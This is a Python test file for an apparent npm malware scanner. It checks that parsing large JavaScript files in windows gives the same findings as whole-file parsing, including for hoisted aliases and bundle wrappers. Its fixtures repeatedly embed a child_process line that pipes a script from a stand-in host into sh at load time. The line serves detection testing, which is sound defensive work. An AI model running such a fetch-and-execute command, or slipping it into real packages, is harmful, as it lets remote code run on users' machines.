"""Big JavaScript files are parsed a window at a time (`facts/jswindow.py`): what the scan
says must not depend on it. Every JavaScript fixture of the npm rule fixtures and attack
classes is padded with filler between its top-level statements (so its code falls in several
windows, cut wherever the window ends) and scanned whole and windowed: the findings must be
the same. Then the cases windows make hard, one by one: an alias declared windows before
its use (or after it), a function body that spans windows, a bundle's wrapper, lines."""

from __future__ import annotations

import shutil
import tomllib
from pathlib import Path

import pytest
import tree_sitter

from package_analysis.analysis import engine
from package_analysis.analysis.facts import javascript, jswindow
from package_analysis.analysis.model import Finding, PackageRef

TESTS = Path(__file__).parent.parent
SMALL = 4096
PACKAGE = PackageRef("npm", "demo-widget", "1.0.0", "pkg:npm/demo-widget@1.0.0")


def _filler(n: int, size: int) -> str:
    """Harmless top-level code, about `size` bytes."""
    line = "function __pad{n}_{i}(a, b) {{ const c = a * {i} + b; return [c, String(c)]; }}\n"
    out, i = [], 0
    while sum(map(len, out)) < size:
        out.append(line.format(n=n, i=i))
        i += 1
    return "".join(out)


def _npm_trees() -> list[Path]:
    trees = []
    for toml in sorted((TESTS / "fixtures" / "rules").rglob("fixture.toml")):
        spec = tomllib.loads(toml.read_text("utf-8"))
        if spec.get("ecosystem") == "npm" and "tree" not in spec:
            trees.append(toml.parent)
    for expect in sorted((TESTS / "analysis" / "classes").glob("*/*/*/expect.toml")):
        pkg = expect.parent / "pkg"
        if (pkg / "package" / "package.json").is_file() and "pad" not in expect.read_text():
            trees.append(pkg)
    return [t for t in trees if any(t.rglob("*.js"))]


def _pad_between_statements(path: Path) -> None:
    """Filler after the first top-level statement and in the middle of the rest."""
    data = path.read_bytes()
    tree = javascript.parse(data)
    assert tree is not None
    kids = [c for c in tree.tree.root_node.children if not c.type.startswith("hashbang")]
    cuts = sorted({kids[0].end_byte, kids[len(kids) // 2].end_byte} if kids else {0})
    out, last = [], 0
    for n, at in enumerate(cuts):
        out += [data[last:at], b"\n", _filler(n, 3 * SMALL).encode()]
        last = at
    out.append(data[last:])
    path.write_bytes(b"".join(out))


def _scan(root: Path, window: int, monkeypatch: pytest.MonkeyPatch) -> set[tuple]:
    monkeypatch.setenv(jswindow.ENV, str(window))
    findings: list[Finding] = engine.scan_tree(
        root, ecosystem="npm", package=PACKAGE, artifact_sha256="0" * 64
    )
    return {(f.rule, f.file, f.line, f.reachability, f.severity) for f in findings}


TREES = _npm_trees()


@pytest.mark.parametrize("tree", TREES, ids=[t.relative_to(TESTS).as_posix() for t in TREES])
def test_a_padded_fixture_reads_the_same_whole_and_in_windows(
    tree: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    root = tmp_path / "pkg"
    shutil.copytree(tree, root)
    for js in root.rglob("*.js"):
        _pad_between_statements(js)
    whole = _scan(root, 1 << 30, monkeypatch)
    windowed = _scan(root, SMALL, monkeypatch)
    assert windowed == whole


def _inner(size: int) -> str:
    """Harmless statements for inside a function body, about `size` bytes."""
    return "".join(f"  const v{i} = [{i}, String({i} * 3)];\n" for i in range(size // 30))


RUN = "cp.exec('curl -s https://example.invalid/s.sh | sh');\n"
CASES = {
    # a function whose body spans windows: what it calls runs when it is called
    "inside-a-function": (
        "const cp = require('child_process');\nfunction later() {\n"
        + _inner(4 * SMALL)
        + "  "
        + RUN
        + "}\nmodule.exports = later;\n",
        None,
    ),
    # a bundle's wrapper, invoked where it is written: its body runs at load
    "iife-wrapper": (
        "(function () {\n  const cp = require('child_process');\n"
        + _inner(4 * SMALL)
        + "  "
        + RUN
        + "})();\n",
        "import",
    ),
    "arrow-wrapper": (
        "((module) => {\n  const cp = require('child_process');\n"
        + _inner(4 * SMALL)
        + "  "
        + RUN
        + "})(module);\n",
        "import",
    ),
    # the function closes in a later window: the call after it is the file's top level
    "after-a-long-function": (
        "const cp = require('child_process');\nfunction f() {\n"
        + _inner(4 * SMALL)
        + "}\n"
        + _filler(0, 2 * SMALL)
        + RUN,
        "import",
    ),
    # used at the top, declared (hoisted) at the end, windows apart
    "alias-declared-after-use": (
        RUN + _filler(0, 4 * SMALL) + "var cp = require('child_process');\n",
        "import",
    ),
    # a function called at the top, declared (hoisted) windows later: its body runs
    "function-declared-after-its-call": (
        "const cp = require('child_process');\ngo();\n"
        + _filler(0, 4 * SMALL)
        + "function go() {\n  "
        + RUN
        + "}\n",
        "import",
    ),
    # a call inside a function an earlier window opened is not load time, nor what it calls
    "called-from-a-function-left-open": (
        "const cp = require('child_process');\nfunction later() {\n"
        + _inner(4 * SMALL)
        + "  go();\n}\nfunction go() {\n  "
        + RUN
        + "}\nmodule.exports = later;\n",
        None,
    ),
    # a folded name and a constant built windows before the call
    "carried-constants": (
        "const m = 'child_' + 'process';\n"
        "const load = require('module').createRequire(__filename);\nconst cp = load(m);\n"
        + _filler(0, 4 * SMALL)
        + RUN,
        "import",
    ),
}


@pytest.mark.parametrize("case", sorted(CASES))
def test_load_time_across_windows(
    case: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    code, reach = CASES[case]
    root = tmp_path / "pkg"
    (root / "package").mkdir(parents=True)
    (root / "package" / "package.json").write_text(
        '{"name": "demo-widget", "version": "1.0.0", "main": "index.js"}'
    )
    (root / "package" / "index.js").write_text(code)
    line = code[: code.rindex(RUN)].count("\n") + 1
    windowed = _scan(root, SMALL, monkeypatch)
    assert len(list(jswindow.windows(code.encode(), SMALL))) >= 3  # the call is windows away
    assert windowed == _scan(root, 1 << 30, monkeypatch)
    spawned = {(f[2], f[3]) for f in windowed if f[0] == "JS-CHILD-PROCESS"}
    assert spawned == ({(line, reach)} if reach else set())


def test_windows_keep_positions_and_hold_every_call_once() -> None:
    code = ("const cp = require('child_process');\n" + _filler(0, 6 * SMALL) + RUN).encode()
    whole = javascript.parse(code)
    assert whole is not None
    expected = sorted((c.start_byte, c.start_point) for c, _ in whole.calls)
    got, spans = [], []
    for facts, last in jswindow.windows(code, SMALL):
        assert facts is not None and facts.span is not None
        spans.append(facts.span)
        lo, hi = facts.span
        assert hi - lo <= SMALL and facts.tree.root_node.end_byte <= lo + SMALL
        got += [(c.start_byte, c.start_point) for c, _ in facts.calls]
        assert last == (hi == len(code))
    assert sorted(got) == expected  # every call once, at its place in the whole file
    assert [s[0] for s in spans[1:]] == [s[1] for s in spans[:-1]]  # windows tile the file
    assert len(spans) >= 6


def test_a_window_that_does_not_parse_still_tiles_the_file() -> None:
    code = b"\x00{[(" * SMALL  # no statement anywhere: windows cut at lines, or at their end
    spans = [f.span for f, _ in jswindow.windows(code, SMALL) if f is not None]
    assert spans and spans[0][0] == 0 and spans[-1][1] == len(code)


def test_the_window_size_setting(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(jswindow.ENV, "12")
    assert jswindow.window_bytes() == jswindow.MIN_WINDOW
    monkeypatch.setenv(jswindow.ENV, "lots")
    assert jswindow.window_bytes() == jswindow.DEFAULT_WINDOW
    assert isinstance(tree_sitter.Point(0, 0), tuple)


@pytest.mark.parametrize("case", sorted(CASES))
def test_the_diff_reads_load_time_lines_the_same_in_windows(
    case: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    from package_analysis.analysis import diff

    code = (CASES[case][0] + "(function () {\n" + _inner(2 * SMALL) + "})();\n").encode()
    monkeypatch.setenv(jswindow.ENV, str(1 << 30))
    whole = diff._javascript_lazy(code)
    monkeypatch.setenv(jswindow.ENV, str(SMALL))
    assert diff._javascript_lazy(code) == whole
    last = code.count(b"\n")  # the diff counts a wrapper's body as a function's, as ever
    assert all(n in whole for n in range(last - 2 * SMALL // 30, last))
    if case == "inside-a-function":
        assert code[: code.index(RUN.encode())].count(b"\n") + 1 in whole
